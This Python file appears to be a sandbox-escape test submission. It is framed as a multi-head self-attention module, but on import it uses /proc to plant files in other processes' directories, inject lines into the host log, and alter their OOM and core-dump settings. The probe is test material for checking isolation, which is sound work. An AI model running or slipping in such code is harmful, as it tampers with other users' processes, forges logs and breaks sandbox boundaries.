"""Escape: reach another process's root, descriptors and settings through /proc (the zygote's /tmp, /dev, log)."""
# For every process /proc shows that is not this one: write a file through /proc/PID/root into its /tmp, /dev/shm,
# /dev and working directory (where a later submission forked from the same zygote would find it), write to its
# stdout (/proc/PID/fd/1: the host's zygote log), and change its oom_score_adj and coredump_filter (inherited by
# every child it forks later). Prints FOREIGN-WRITE-<what> for each success.
import math
import os

import torch
import torch.nn as nn


def _try(label, path, data):
    try:
        with open(path, "w") as handle:
            handle.write(data)
        print(f"FOREIGN-WRITE-{label} {path}", flush=True)
    except OSError:
        pass


def _probe():
    me = os.readlink("/proc/self")  # as the mounted /proc numbers this process
    for name in os.listdir("/proc"):
        if not name.isdigit() or name == me:
            continue
        base = f"/proc/{name}"
        for where in ("tmp", "dev/shm", "dev", "sandbox"):
            _try("ROOT", f"{base}/root/{where}/HOSTILE_OUT_parked", "parked by a previous submission\n")
        _try("FD", f"{base}/fd/1", "HOSTILE-LOG-INJECTION\n")
        _try("OOM", f"{base}/oom_score_adj", "1000")
        _try("COREDUMP", f"{base}/coredump_filter", "0x7f")
    print("FOREIGN-PROBE-DONE", flush=True)


_probe()


class MultiHeadSelfAttention(nn.Module):
    def __init__(self, embed_dim, num_heads):
        super().__init__()
        self.num_heads = num_heads
        self.head_dim = embed_dim // num_heads
        self.q_proj = nn.Linear(embed_dim, embed_dim)
        self.k_proj = nn.Linear(embed_dim, embed_dim)
        self.v_proj = nn.Linear(embed_dim, embed_dim)
        self.out_proj = nn.Linear(embed_dim, embed_dim)

    def _heads(self, t):
        seq, batch, _ = t.shape
        return t.view(seq, batch, self.num_heads, self.head_dim).permute(1, 2, 0, 3)

    def forward(self, x):
        seq, batch, embed = x.shape
        q, k, v = self._heads(self.q_proj(x)), self._heads(self.k_proj(x)), self._heads(self.v_proj(x))
        weights = torch.softmax(q @ k.transpose(-2, -1) / math.sqrt(self.head_dim), dim=-1)
        return self.out_proj((weights @ v).permute(2, 0, 1, 3).reshape(seq, batch, embed))
